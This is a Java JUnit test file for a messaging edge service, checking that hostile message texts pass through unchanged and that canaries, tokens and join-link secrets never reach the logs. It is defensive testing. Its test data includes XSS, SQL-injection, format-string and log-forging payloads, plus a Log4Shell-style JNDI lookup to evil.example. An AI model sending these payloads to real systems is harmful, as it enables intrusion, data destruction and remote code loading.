package io.millrace.edge.http;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.millrace.edge.EdgeUnderTest;
import java.util.Map;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/** Texts that want to be run, to hide or to break something come back as they went in, and stand in no log. */
@Timeout(60)
class HostileTextTest {
    private static final ConcurrentLinkedQueue<String> LOGGED = new ConcurrentLinkedQueue<>();
    private static final Logger IO_MILLRACE = (Logger) LoggerFactory.getLogger("io.millrace");
    private static final AppenderBase<ILoggingEvent> APPENDER = new AppenderBase<>() {
        @Override
        protected void append(ILoggingEvent event) {
            LOGGED.add(event.getFormattedMessage() + event.getKeyValuePairs() + event.getThrowableProxy());
        }
    };

    private static EdgeUnderTest edge;

    @BeforeAll
    static void start() {
        APPENDER.start();
        IO_MILLRACE.setLevel(Level.TRACE);
        IO_MILLRACE.setAdditive(false);
        IO_MILLRACE.addAppender(APPENDER);
        edge = EdgeUnderTest.start();
    }

    @AfterAll
    static void stop() throws Exception {
        edge.close();
        IO_MILLRACE.detachAppender(APPENDER);
        IO_MILLRACE.setAdditive(true);
        IO_MILLRACE.setLevel(null);
    }

    /** As they stand between the quotes of a JSON string. */
    static Stream<String> texts() {
        return Stream.of(
                "canary <script>alert(1)</script><img src=x onerror=alert(1)>",
                "canary '; DROP TABLE entries; -- \\\" ) USING TTL 1",
                "canary ${jndi:ldap://evil.example/a} ${env:HOME} {{7*7}} %s %n %x",
                "canary \\r\\n2026-11-23 ERROR forged line \\u001b[31m",
                "canary \\u0001\\u0008\\u000c\\u001f\\u007f\\u0085",
                "canary \\u202Eevil\\u202C \\u2066x\\u2069",
                "canary zero\\u200bwidth\\u200d\\ufeff",
                "canary Z" + "\u0301".repeat(500),
                "canary e\u0301 and \u00e9 stay what they are",
                "canary \ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \\ud83d\\ude00",
                "canary \\u2028\\u2029");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void shouldGiveBackByteForByte(String text) throws Exception {
        try (var alice = RawSocket.welcomed(edge, "alice", "phone");
                var bob = RawSocket.welcomed(edge, "bob", "phone")) {
            // When
            var body = "{\"kind\":\"text\", \"text\":\"" + text + "\"}";
            alice.text("{\"type\":\"send\",\"clientMessageId\":\"t-" + Integer.toHexString(text.hashCode())
                    + "\",\"to\":{\"user\":\"bob\"},\"body\":" + body + "}");

            // Then
            assertThat(bob.await("\"entry\"")).contains("\"body\":" + body);
        }
        assertThat(LOGGED).noneMatch(line -> line.contains("canary"));
    }

    @Test
    void shouldLogNeitherTokensNorWhatWasRefused() throws Exception {
        // Given
        var token = edge.token("alice");

        // When
        try (var refused = RawSocket.open(edge.port());
                var bad = RawSocket.welcomed(edge, "alice", "bad")) {
            refused.hello(token + "x", "canary");
            refused.awaitClose();
            bad.text("{\"type\":\"canary\"}");
            assertThat(bad.await("unknown_type")).doesNotContain("canary");
            bad.text("{\"type\":\"send\",\"clientMessageId\":\"canary canary\"}");
            assertThat(bad.await("invalid")).doesNotContain("canary").contains("clientMessageId");
            bad.text("{\"canary");
            assertThat(bad.await("bad_frame")).doesNotContain("canary");
        }

        // Then
        assertThat(LOGGED).isNotEmpty().noneMatch(line -> line.contains("canary") || line.contains(token));
    }

    @Test
    void shouldLogNoSecretOfAJoinLink() throws Exception {
        // Given
        var alice = new Caller(edge, edge.token("alice"));
        var made = alice.post("/v1/conversations/g:x/links", "{\"clientMessageId\":\"l\",\"until\":1790000000000}");
        var secret = new ObjectMapper().readTree(made.body()).get("link").asText();

        // When
        var joined = new Caller(edge, edge.token("bob"))
                .post("/v1/conversations/g:x/join", "{\"clientMessageId\":\"j\",\"link\":\"" + secret + "\"}");
        var refused = alice.post(
                "/v1/conversations/g:x/join", "{\"clientMessageId\":\"j\",\"link\":\"" + secret + " canary\"}");

        // Then
        assertThat(joined.statusCode()).isEqualTo(200);
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body()).doesNotContain("canary", secret);
        assertThat(LOGGED).noneMatch(line -> line.contains(secret) || line.contains("canary"));
        assertThat(edge.router.written).noneMatch(record -> record.toString().contains(secret));
    }

    @ParameterizedTest
    @MethodSource("names")
    void shouldKeepControlCharactersOutOfTitles(Map.Entry<String, Integer> title) throws Exception {
        try (var socket = new RawSocket(edge.port())) {
            // When
            var body = "{\"clientMessageId\":\"g\",\"kind\":\"group\",\"members\":[\"bob\"],\"title\":\""
                    + title.getKey() + "\"}";
            socket.post("/v1/conversations", edge.token("alice"), body);

            // Then
            assertThat(socket.head()).startsWith("HTTP/1.1 " + title.getValue());
        }
    }

    static Stream<Map.Entry<String, Integer>> names() {
        return Stream.of(
                Map.entry("a\\nb", 400),
                Map.entry("a\\u001b[2J", 400),
                Map.entry("\\u0000", 400),
                Map.entry("", 400),
                Map.entry(" \\t ", 400),
                Map.entry("\\u00a0\\u2003", 400),
                Map.entry("a".repeat(201), 400),
                Map.entry("a".repeat(200), 201),
                Map.entry("<b>${x}</b> %s", 201));
    }
}
